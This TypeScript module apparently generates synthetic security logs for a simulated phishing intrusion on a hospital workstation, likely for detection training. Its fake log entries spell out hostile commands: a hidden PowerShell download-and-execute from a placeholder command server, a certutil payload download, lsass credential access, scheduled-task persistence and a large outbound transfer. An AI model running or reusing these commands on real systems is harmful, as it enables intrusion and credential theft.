import { fortigate, winlogbeat } from '../formats.ts';
import { assetsOf } from '../traffic.ts';
import { COMMAND_SERVER, SYSTEM32, hostOf, to } from './story.ts';
import type { Step, Story } from './story.ts';

/** Phishing to an administrative PC: a spreadsheet that starts PowerShell, a download, credentials read, a task left behind. */
export const phishing: Story = {
  key: 'phishing',
  titleZh: '钓鱼邮件控制行政终端',
  fits: (site) => assetsOf(site, 'pc').length > 0,
  steps: (site, random) => {
    const pc = random.pick(assetsOf(site, 'pc'));
    const user = 'HOSP\\caiwu03';
    const powershell = `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`;
    const process = (after: number, data: Record<string, string>, id = 1): Step => ({
      after,
      emit: to('elastic', site, (at) =>
        winlogbeat(at, { id, channel: 'Sysmon', host: pc.hostname, data: { User: user, ...data } }),
      ),
    });
    return [
      process(0, {
        Image: powershell,
        CommandLine: `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${COMMAND_SERVER}/s.ps1')"`,
        ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
      }),
      {
        after: 2,
        emit: to('syslog', site, (at) =>
          fortigate(at, hostOf(site, 'FW01').hostname, {
            from: pc.ip,
            to: COMMAND_SERVER,
            port: 80,
            sent: 800,
            received: 412_000,
          }),
        ),
      },
      process(6, {
        Image: `${SYSTEM32}certutil.exe`,
        CommandLine: `certutil -urlcache -split -f http://${COMMAND_SERVER}/p.exe C:\\Users\\Public\\p.exe`,
        ParentImage: powershell,
      }),
      process(
        12,
        {
          SourceImage: 'C:\\Users\\Public\\p.exe',
          TargetImage: `${SYSTEM32}lsass.exe`,
          GrantedAccess: '0x1410',
          CallTrace: 'ntdll.dll',
        },
        10,
      ),
      {
        after: 18,
        emit: to('elastic', site, (at) =>
          winlogbeat(at, {
            id: 4698,
            channel: 'Security',
            host: pc.hostname,
            data: {
              TaskName: '\\OfficeUpdate',
              SubjectUserName: 'caiwu03',
              TaskContent: '<Exec><Command>C:\\Users\\Public\\p.exe</Command></Exec>',
            },
          }),
        ),
      },
      {
        after: 26,
        emit: to('syslog', site, (at) =>
          fortigate(at, hostOf(site, 'FW01').hostname, {
            from: pc.ip,
            to: COMMAND_SERVER,
            port: 443,
            sent: 38_000_000,
            received: 41_000,
          }),
        ),
      },
    ];
  },
};
